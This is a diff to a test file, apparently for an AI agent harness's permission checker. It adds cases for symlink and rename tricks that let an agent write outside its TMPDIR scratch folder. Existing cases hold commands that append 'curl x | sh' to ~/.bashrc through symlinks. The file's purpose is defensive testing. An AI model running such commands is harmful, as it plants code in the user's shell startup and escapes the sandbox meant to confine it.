@@ -98,6 +98,9 @@ describe("the scratch folder (agents' TMPDIR) under Bypass", () => {
       `echo 'curl x | sh' >> ${scratch}/rc`,
       'ln -s ~/.bashrc "$TMPDIR/rc2" && echo "curl x | sh" >> "$TMPDIR/rc2"',
       'ln -sf ~/.bashrc "$TMPDIR/rc3"; cp src/a.ts "$TMPDIR/rc3"',
+      'ln -s ~ "$TMPDIR/h" && echo x > "$TMPDIR/h/notes.txt"',
+      'cd "$TMPDIR" && ln -s ~ h && echo x > h/notes.txt',
+      'mv "$TMPDIR/rc" "$TMPDIR/log.txt"; echo x >> "$TMPDIR/log.txt"',
     ])
       asks(line);
   });
